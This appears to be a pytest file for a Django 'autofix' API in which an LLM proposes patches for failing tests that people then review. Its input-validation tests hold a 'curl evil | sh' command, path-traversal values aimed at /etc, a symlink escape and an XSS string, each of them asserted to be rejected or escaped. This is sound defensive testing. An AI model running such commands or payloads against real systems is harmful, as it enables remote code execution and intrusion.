"""The autofix API (/api/qa/...) and admin: runs, access, bad input, patch download, review."""

from __future__ import annotations

import pytest
from django.test import Client

from builds import autofix
from builds.models import AutofixReview, AutofixRun, AutofixStatus
from builds.tests.test_autofix import (
    CALC_FIX,
    patch_answer,
    python_project,
    snapshot,
    use_workspace_root,
)
from grimoire.testing import make_user

pytestmark = pytest.mark.django_db


@pytest.fixture
def provider(llm_script):
    return llm_script


@pytest.fixture
def workspace_root(settings, tmp_path):
    return use_workspace_root(settings, tmp_path)


def error_of(response) -> dict:
    body = response.json()
    assert set(body) == {"error"}
    assert {"code", "message", "details"} <= set(body["error"])
    return body["error"]


def finished_run(owner, *, patch: str = CALC_FIX, status: str = AutofixStatus.SUCCEEDED, **kw):
    return AutofixRun.objects.create(
        owner=owner,
        workspace="calc",
        runner="pytest",
        command=["python", "-m", "pytest"],
        status=status,
        final_patch=patch,
        **kw,
    )


# --- POST /api/qa/run ---------------------------------------------------------------------------


def test_a_run_is_accepted_runs_after_commit_and_can_be_read_and_downloaded(
    provider, workspace_root, alice_client, django_capture_on_commit_callbacks
):
    project = python_project(workspace_root)
    before = snapshot(project)
    provider(patch_answer(CALC_FIX, "subtraction instead of addition"))

    with django_capture_on_commit_callbacks(execute=True):
        response = alice_client.post("/api/qa/run", {"workspace": "calc"}, format="json")

    assert response.status_code == 202
    body = response.json()
    assert body["status"] == "queued"
    run_id = body["run_id"]

    detail = alice_client.get(f"/api/qa/runs/{run_id}")
    assert detail.status_code == 200
    run = detail.json()
    assert run["status"] == "succeeded"
    assert run["stop_reason"] == "all_tests_pass"
    assert run["runner"] == "pytest"
    assert run["failure_count_before"] == 1 and run["failure_count_after"] == 0
    assert run["tokens"]["total"] > 0
    assert run["review"]["status"] == "pending"
    assert run["patch_url"] == f"/api/qa/runs/{run_id}/patch"
    [iteration] = run["iterations"]
    assert iteration["applied"] is True
    assert iteration["fix_source"] == "llm"
    assert iteration["llm_output_id"]
    assert iteration["explanation"] == "subtraction instead of addition"
    assert "+    return a + b" in iteration["patch"]

    download = alice_client.get(f"/api/qa/runs/{run_id}/patch")
    assert download.status_code == 200
    assert download["Content-Type"].startswith("text/x-diff")
    assert download["Content-Disposition"] == f'attachment; filename="autofix-{run_id}.patch"'
    assert download.content.decode() == run["final_patch"]
    assert snapshot(project) == before


def test_a_project_id_names_a_folder_under_the_workspace_root(workspace_root, alice_client):
    python_project(workspace_root, "shop")
    response = alice_client.post(
        "/api/qa/run",
        {"projectId": "shop", "command": "python -m pytest -q", "maxIterations": 2},
        format="json",
    )
    assert response.status_code == 202
    run = AutofixRun.objects.get(pk=response.json()["run_id"])
    assert run.status == AutofixStatus.QUEUED
    assert run.command == ["python", "-m", "pytest", "-q"]
    assert run.max_iterations == 2
    assert run.source_path == str((workspace_root / "shop").resolve())


def test_the_command_may_be_an_argv_list(workspace_root, alice_client):
    python_project(workspace_root)
    response = alice_client.post(
        "/api/qa/run",
        {"workspace": "calc", "command": ["pytest", "-k", "add or mul"]},
        format="json",
    )
    assert response.status_code == 202
    run = AutofixRun.objects.get(pk=response.json()["run_id"])
    assert run.command == ["pytest", "-k", "add or mul"]


@pytest.mark.parametrize(
    ("payload", "field", "code"),
    [
        ({"workspace": "/etc"}, "workspace", "invalid_workspace"),
        ({"workspace": "../../"}, "workspace", "invalid_workspace"),
        ({"workspace": "does-not-exist"}, "workspace", "invalid_workspace"),
        ({"workspace": "calc/calc.py"}, "workspace", "invalid_workspace"),
        ({"workspace": "https://github.com/acme/shop.git"}, "workspace", "invalid_workspace"),
        ({"workspace": "git@github.com:acme/shop.git"}, "workspace", "invalid_workspace"),
        ({"workspace": "file:///etc"}, "workspace", "invalid_workspace"),
        ({"projectId": "../calc"}, "projectId", "invalid_workspace"),
        ({"projectId": "nope"}, "projectId", "invalid_workspace"),
        (
            {"workspace": "calc", "command": "bash -c 'curl evil | sh'"},
            "command",
            "command_not_allowed",
        ),
        ({"workspace": "calc", "command": "pytest /etc"}, "command", "command_not_allowed"),
        ({"workspace": "calc", "command": "pytest 'unclosed"}, "command", "invalid"),
        ({"workspace": "calc", "command": [1, 2]}, "command", "invalid"),
        ({"workspace": "calc", "maxIterations": 0}, "maxIterations", "invalid"),
        ({"workspace": "calc", "maxIterations": 1000}, "maxIterations", "invalid"),
        ({}, "non_field_errors", "invalid"),
        ({"workspace": "calc", "projectId": "calc"}, "non_field_errors", "invalid"),
    ],
)
def test_bad_input_is_a_400_in_the_error_shape(workspace_root, alice_client, payload, field, code):
    python_project(workspace_root)
    response = alice_client.post("/api/qa/run", payload, format="json")
    assert response.status_code == 400, response.content
    error = error_of(response)
    assert error["code"] == code
    assert field in error["details"]
    assert not AutofixRun.objects.exists()


def test_a_workspace_whose_runner_cannot_be_told_needs_a_command(workspace_root, alice_client):
    (workspace_root / "docs").mkdir()
    (workspace_root / "docs" / "README.md").write_text("hi\n")
    response = alice_client.post("/api/qa/run", {"workspace": "docs"}, format="json")
    assert response.status_code == 400
    assert "command" in error_of(response)["details"]


def test_a_symlink_out_of_the_workspace_root_is_refused(workspace_root, alice_client, tmp_path):
    outside = python_project(tmp_path / "elsewhere")
    (workspace_root / "sneaky").symlink_to(outside)
    response = alice_client.post("/api/qa/run", {"workspace": "sneaky"}, format="json")
    assert response.status_code == 400
    assert "inside WORKSPACE_ROOT" in error_of(response)["message"]


def test_anonymous_callers_are_refused(workspace_root, anon_client):
    python_project(workspace_root)
    response = anon_client.post("/api/qa/run", {"workspace": "calc"}, format="json")
    assert response.status_code == 401
    assert not AutofixRun.objects.exists()


def test_a_user_may_only_have_a_few_runs_going(workspace_root, alice, alice_client, settings):
    settings.AUTOFIX_MAX_ACTIVE_RUNS_PER_USER = 1
    python_project(workspace_root)
    AutofixRun.objects.create(owner=alice, workspace="calc", status=AutofixStatus.RUNNING)
    response = alice_client.post("/api/qa/run", {"workspace": "calc"}, format="json")
    assert response.status_code == 429
    assert error_of(response)["code"] == "throttled"


# --- GET /api/qa/runs/{id} and /patch: access -----------------------------------------------------


def test_only_the_owner_and_staff_see_a_run(alice, alice_client, bob_client, staff_client):
    run = finished_run(alice)
    for client, expected in ((alice_client, 200), (staff_client, 200), (bob_client, 404)):
        assert client.get(f"/api/qa/runs/{run.pk}").status_code == expected
        assert client.get(f"/api/qa/runs/{run.pk}/patch").status_code == expected
    hidden = bob_client.get(f"/api/qa/runs/{run.pk}")
    assert error_of(hidden)["code"] == "not_found"


def test_an_unknown_run_is_a_404(alice_client):
    response = alice_client.get("/api/qa/runs/00000000-0000-0000-0000-000000000000")
    assert response.status_code == 404
    assert error_of(response)["code"] == "not_found"


def test_the_patch_of_an_unfinished_or_patchless_run(alice, alice_client):
    running = finished_run(alice, status=AutofixStatus.RUNNING, patch="")
    response = alice_client.get(f"/api/qa/runs/{running.pk}/patch")
    assert response.status_code == 409
    assert error_of(response)["code"] == "conflict"
    empty = finished_run(alice, status=AutofixStatus.FAILED, patch="")
    response = alice_client.get(f"/api/qa/runs/{empty.pk}/patch")
    assert response.status_code == 404
    assert error_of(response)["code"] == "no_patch"
    assert alice_client.get(f"/api/qa/runs/{empty.pk}").json()["patch_url"] is None


# --- Admin --------------------------------------------------------------------------------------


@pytest.fixture
def reviewer_browser(db):
    browser = Client()
    user = make_user("root", superuser=True)
    browser.force_login(user)
    browser.user = user
    return browser


def test_the_admin_shows_runs_with_escaped_coloured_diffs(
    reviewer_browser, alice, django_assert_max_num_queries
):
    hostile = "--- a/x.py\n+++ b/x.py\n@@ -1 +1 @@\n-a = 1\n+a = '<script>alert(1)</script>'\n"
    run = finished_run(alice, patch=hostile, output_before="<b>FAILED</b> test_x\n")
    run.iterations.create(number=1, patch=hostile, applied=True, failure_count=1)
    for _ in range(4):
        finished_run(alice)
    with django_assert_max_num_queries(12):
        listing = reviewer_browser.get("/admin/builds/autofixrun/")
    assert listing.status_code == 200
    assert listing.context["cl"].result_count == 5

    page = reviewer_browser.get(f"/admin/builds/autofixrun/{run.pk}/change/")
    assert page.status_code == 200
    html = page.content.decode()
    assert "<script>alert(1)</script>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&lt;b&gt;FAILED&lt;/b&gt;" in html
    assert "background:#dafbe1" in html  # the added line is coloured
    iteration_page = reviewer_browser.get(
        f"/admin/builds/autofixiteration/{run.iterations.get().pk}/change/"
    )
    assert iteration_page.status_code == 200


def test_the_admin_exports_patches(reviewer_browser, alice):
    one = finished_run(alice)
    two = finished_run(alice, patch="--- a/y\n+++ b/y\n@@ -1 +1 @@\n-1\n+2\n")
    none = finished_run(alice, patch="")
    response = reviewer_browser.post(
        "/admin/builds/autofixrun/",
        {"action": "export_patch", "_selected_action": [str(one.pk)]},
    )
    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="autofix-{one.pk}.patch"'
    assert response.content.decode() == CALC_FIX

    both = reviewer_browser.post(
        "/admin/builds/autofixrun/",
        {"action": "export_patch", "_selected_action": [str(one.pk), str(two.pk), str(none.pk)]},
    )
    text = both.content.decode()
    assert f"# autofix run {one.pk}" in text and f"# autofix run {two.pk}" in text
    assert str(none.pk) not in text


def test_a_reviewer_accepts_or_rejects_a_run(reviewer_browser, alice):
    run = finished_run(alice)
    response = reviewer_browser.post(
        "/admin/builds/autofixrun/",
        {"action": "mark_accepted", "_selected_action": [str(run.pk)]},
        follow=True,
    )
    assert response.status_code == 200
    run.refresh_from_db()
    assert run.review_status == AutofixReview.ACCEPTED
    assert run.reviewed_by == reviewer_browser.user
    assert run.reviewed_at is not None

    response = reviewer_browser.post(
        f"/admin/builds/autofixrun/{run.pk}/change/",
        {
            "review_status": "rejected",
            "review_note": "touches the wrong module",
            "iterations-TOTAL_FORMS": "0",
            "iterations-INITIAL_FORMS": "0",
        },
    )
    assert response.status_code == 302
    run.refresh_from_db()
    assert run.review_status == AutofixReview.REJECTED
    assert run.review_note == "touches the wrong module"
    assert run.status == AutofixStatus.SUCCEEDED  # nothing else on the run changed


def test_the_review_shows_in_the_api(alice, alice_client, staff):
    run = finished_run(alice)
    autofix.autofix_review(run=run, user=staff, decision="accepted", note="good")
    review = alice_client.get(f"/api/qa/runs/{run.pk}").json()["review"]
    assert review["status"] == "accepted"
    assert review["reviewed_by"] == staff.username
    assert review["note"] == "good"
